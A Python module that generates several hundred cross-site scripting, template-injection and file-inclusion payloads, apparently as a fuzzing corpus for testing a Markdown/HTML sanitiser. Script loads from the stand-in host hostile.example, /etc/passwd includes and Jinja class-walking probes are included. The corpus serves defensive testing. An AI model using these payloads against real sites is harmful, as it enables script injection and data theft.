"""Texts that try to become markup, to run, or to read what they must not; more than five hundred of them.

They follow the public collections of such texts: elements that run something when they are parsed, addresses in
disguise, attributes that are broken out of, what one parser reads otherwise than the next, and the extensions that
a host of Markdown may have on. Each tries to call ``alert(1)`` or to ask ``hostile.example``.
"""

from __future__ import annotations

from collections.abc import Iterator
from itertools import product
from random import Random

RUN = "alert(1)"
AWAY = "//hostile.example/x"

_ELEMENTS = (
    "<img src=x {}>", "<svg {}>", "<svg><g {}></g></svg>", "<body {}>", "<video src=x {}></video>",
    "<video><source {}></video>", "<audio src=x {}></audio>", "<details open {}>", "<input autofocus {}>",
    "<select autofocus {}></select>", "<textarea autofocus {}></textarea>", "<button autofocus {}>x</button>",
    "<marquee {}>x</marquee>", "<iframe {}></iframe>", "<object data=x {}></object>", "<embed src=x {}>",
    "<a tabindex=1 {} id=x>x</a>", "<div style='animation:x 1s' {}>x</div>", "<p {}>x</p>", "<form {}><input></form>",
    "<math><mi {}>x</mi></math>", "<link rel=stylesheet href=x {}>", "<style {}></style>", "<x contenteditable {}>x</x>",
)  # fmt: skip
_EVENTS = (
    "onload",
    "onerror",
    "onfocus",
    "ontoggle",
    "onmouseover",
    "OnClIcK",
    "onanimationstart",
    "onbeforeprint",
)

_SCRIPTS = (
    f"<script>{RUN}</script>", f"<ScRiPt>{RUN}</sCrIpT>", f"<script src={AWAY}></script>", f"<script >{RUN}</script >",
    f"<script/x>{RUN}</script>", f"<scr<script>ipt>{RUN}</scr</script>ipt>", f"<<script>{RUN}//<</script>",
    f"<svg><script>{RUN}</script></svg>", f"<svg><script href={AWAY} /></svg>", f"<script type=module>{RUN}</script>",
    f"</script><script>{RUN}</script>", f"</title><script>{RUN}</script>", f"</textarea><script>{RUN}</script>",
    f"</style><script>{RUN}</script>", f"</template><script>{RUN}</script>", f"--><script>{RUN}</script>",
    f"]]><script>{RUN}</script>", f"<![CDATA[<script>{RUN}</script>]]>", f"<!--><script>{RUN}</script>-->",
    f"<noscript><p title='</noscript><script>{RUN}</script>'>", f"<xmp><p title='</xmp><script>{RUN}</script>'>",
    f"<iframe srcdoc='<script>{RUN}</script>'></iframe>", f"<iframe src=javascript:{RUN}></iframe>",
    f"<object data=javascript:{RUN}></object>", f"<base href=javascript:/{RUN}//>", f"<base href={AWAY}>",
    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>", f"<meta http-equiv=refresh content='0;url={AWAY}'>",
    f"<link rel=import href={AWAY}>", f"<link rel=stylesheet href={AWAY}>", f"<style>@import '{AWAY}';</style>",
    f"<style>*{{background:url({AWAY})}}</style>", f"<div style=background:url({AWAY})>x</div>",
    f"<img src={AWAY}>", f"<img srcset={AWAY}>", f"<picture><source srcset={AWAY}><img></picture>",
    f"<video poster={AWAY}></video>", f"<input type=image src={AWAY}>", f"<table background={AWAY}><tr><td>x</table>",
    f"<form action=javascript:{RUN}><button>x</button></form>", f"<button form=x formaction=javascript:{RUN}>x</button>",
    f"<isindex action=javascript:{RUN}>", f"<svg><use href={AWAY}#x /></svg>", f"<svg><image href={AWAY} /></svg>",
    f"<svg><a xlink:href=javascript:{RUN}><text y=9>x</text></a></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s></svg>",
    f"<svg><a><animate attributeName=href values=javascript:{RUN} /><text y=9>x</text></a></svg>",
    f"<math href=javascript:{RUN}>x</math>", f"<math><maction actiontype=statusline xlink:href=javascript:{RUN}>x",
    # What one parser closes and the next does not.
    f"<svg></p><style><a id=\"</style><img src=1 onerror={RUN}>\">",
    f"<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror={RUN}&gt;\">",
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
    f"<noembed><img title=\"</noembed><img src onerror={RUN}>\"></noembed>",
    f"<svg><title><![CDATA[</title><img src=x onerror={RUN}>]]></svg>",
    f"<template><s><template><s><img src=x onerror={RUN}>X</s></template></s></template>",
    f"<a href='x' title='`'><img alt='`onerror={RUN} src=x'></a>",
    # What is decoded once too often.
    f"&lt;script&gt;{RUN}&lt;/script&gt;", f"&amp;lt;script&amp;gt;{RUN}&amp;lt;/script&amp;gt;",
    f"&#60;img src=x onerror={RUN}&#62;", f"&#x3c;img src=x onerror={RUN}&#x3e;", f"&#0000060img src=x onerror={RUN}&#62",
    f"&LT;img src=x onerror={RUN}&GT;", f"&ltimg src=x onerror={RUN}&gt", f"%3Cscript%3E{RUN}%3C/script%3E",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e", f"\\x3cscript\\x3e{RUN}\\x3c/script\\x3e",
    f"\uff1cscript\uff1e{RUN}\uff1c/script\uff1e", f"\u2039img src=x onerror={RUN}\u203a", f"\xbcscript\xbe{RUN}\xbc/script\xbe",
    f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-", f"\\<img src=x onerror={RUN}\\>", f"\\\\<img src=x onerror={RUN}>",
    # The places that parsers keep for what they put aside.
    f"&#2;wzxhzdk:0&#3;<img src=x onerror={RUN}>", "klzzwxh:0000", "&#2;klzzwxh:0&#3;", "&#2;amp&#3;lt;b&#2;amp&#3;gt;",
    "wzxhzdk:0", "&#x2;qlzzqxh:0&#x3;", "&#0;&#1;&#8;",
)  # fmt: skip

_QUOTES = ('"', "'", "`", "&quot;", "&#34;", "&#39;", "&apos;", "\u201d", '\\"', "\\'", "\\x22", "%22")
_BREAKS = (
    "{q}><img src=x onerror=alert(1)>", "{q} onmouseover=alert(1) x={q}", "{q} autofocus onfocus=alert(1) tabindex=1 x={q}",
    "{q} style={q}background:url(//hostile.example/x)", "{q};alert(1);//", "{q}-alert(1)-{q}", "{q}]alert(1){q}",
    "{q}/><svg/onload=alert(1)>", "{q}){{}}alert(1)//",
)  # fmt: skip

_ADDRESSES = (
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", " javascript:alert(1)", "java&#9;script:alert(1)",
    "java&#x0A;script:alert(1)", "&#106;avascript:alert(1)", "&#x6a;avascript:alert(1)", "&#0000106avascript:alert(1)",
    "javascript&colon;alert(1)", "javascript&#58;alert(1)", "javascript&#x3a;alert(1)", "java&Tab;script:alert(1)",
    "java&NewLine;script&colon;alert(1)", "&#1;javascript:alert(1)", "&#8203;javascript:alert(1)",
    "javascript://%0aalert(1)", "javascript:/*x*/alert(1)", "jav\\ascript:alert(1)", "java\\script:alert(1)",
    "javascript\\:alert(1)", "\uff4aavascript:alert(1)", "javascript\uff1aalert(1)", "vbscript:msgbox(1)",
    "livescript:alert(1)", "data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD4=",
    "data:image/svg+xml,<svg onload=alert(1)>", "DATA:text/html,x", "blob:x", "file:///etc/passwd", "filesystem:x",
    "view-source:x", "feed:javascript:alert(1)", "jar:x", "intent:x", "ms-word:x", "x-javascript:alert(1)",
    "option:../../x", "option:%2e%2e/x", "option:javascript:alert(1)", "OPTION:x\" onclick=alert(1) x=\"",
    "javascript:alert(1)//https://x", "https:javascript:alert(1)", "mailto:x?attach=/etc/passwd", "//hostile.example/x",
)  # fmt: skip
_LINKS = (
    "[x]({})", "![x]({})", "<{}>", "[x](<{}>)", "[x]({} \"t\")", "[x][r]\n\n[r]: {}", "[*x*]({})", "[![x](y)]({})",
)  # fmt: skip
DANGLING = ("option:",)
"""How an address begins that leads to an entity: one that leads nowhere is an error, and never reaches a page."""

_EXTENSIONS = (
    "x {: onclick=alert(1) }", "x {: style=\"background:url(//hostile.example/x)\" }", "{: #x onload=alert(1) }",
    "# x {: onclick=alert(1) }", "*x*{: onmouseover=alert(1) }", "[x](y){: href=javascript:alert(1) }",
    "--8<-- \"/etc/passwd\"", "--8<-- \"mkdocs.yml\"", "-8<- \"mkdocs.yml\"", "--8<-- \"https://hostile.example/x\"",
    ";--8<-- \"mkdocs.yml\"", "--8<--\nmkdocs.yml\n--8<--", "{% include 'mkdocs.yml' %}", "{{ config }}", "{{ 7*7 }}",
    "{{ ''.__class__.__mro__ }}", "{% for x in y %}{% endfor %}", "{# x #}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{!mkdocs.yml!}",
    "<div markdown=1>*x*</div>", "<div markdown=\"1\"><script>alert(1)</script></div>", "/// html | script\nalert(1)\n///",
    "/// html | img[src=x onerror=alert(1)]\n///", "/// decision | x\n///", "/// admonition | x\n<b>x</b>\n///",
    "/// details | x\n    open: true\n///", "/// option | a\n///", "!!! note \"<img src=x onerror=alert(1)>\"\n    x",
    "??? x\n    x", "=== \"x\"\n    x", "[TOC]", "[x]: javascript:alert(1)", "[^1]\n\n[^1]: <img src=x onerror=alert(1)>",
    "*[x]: <img src=x onerror=alert(1)>", "term\n:   <img src=x onerror=alert(1)>", "::: os.system", "::: decisionbook",
    "```html\n<img src=x onerror=alert(1)>\n```", "~~~ {.x onclick=alert(1)}\nx\n~~~", "```mermaid\nclick A call alert(1)\n```",
    "    <script>alert(1)</script>", "`<script>alert(1)</script>`", "``` <img src=x onerror=alert(1)>", "`` ` `` <b>",
    "$x$", "$$\\href{javascript:alert(1)}{x}$$", "\\(\\href{javascript:alert(1)}{x}\\)", ":smile:", "++x++", "==x==", "^x^", "~x~",
    "[[x]]", "![[mkdocs.yml]]", "@import url(//hostile.example/x)", "https://hostile.example/x", "www.hostile.example", "x@hostile.example",
    "| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> | x |", "- [ ] x", "- [x] <b>x</b>", "> x", "---\ntitle: x\n---", "***", "# x",
    "<http://hostile.example/\"onmouseover=alert(1)>", "<mailto:x@y.z\"onclick=alert(1)>", "<x:onclick=alert(1)>",
)  # fmt: skip


def every() -> tuple[str, ...]:
    """All of them, the same in every run."""
    return tuple(dict.fromkeys(_all()))


def _all() -> Iterator[str]:
    for element, event in product(_ELEMENTS, _EVENTS):
        yield element.format(f"{event}={RUN}")
    yield from _SCRIPTS
    for quote, broken in product(_QUOTES, _BREAKS):
        yield broken.replace("{q}", quote)
    for number, address in enumerate(_ADDRESSES):
        if not address.lower().startswith(DANGLING):
            yield _LINKS[number % 3].format(address)
            yield _LINKS[3 + number % 5].format(address)
    yield from _EXTENSIONS


_JOINTS = ("<", ">", '"', "'", "`", "&", ";", "\\", "[", "]", "(", ")", "*", "_", "{", "}", ":", "\n", "\n\n    ", "\t", " ", "/",
           "=", "<!--", "-->", "](", "](<", "&#", "\n- ", "\n```\n", "javascript:", "<a href=", "\xa0", "\u2028", "\U0001f600")  # fmt: skip


def mutants(count: int, seed: int) -> Iterator[str]:
    """Texts that are made of parts of the others, with what parsers look at strewn among them."""
    chance = Random(seed)
    known = every()
    for _ in range(count):
        parts = []
        for _ in range(chance.randint(1, 4)):
            text = chance.choice(known)
            start = chance.randrange(len(text))
            parts.append(text[start : start + chance.randint(1, len(text))])
            parts.append(chance.choice(_JOINTS) * chance.randint(1, 2))
        yield "".join(parts)
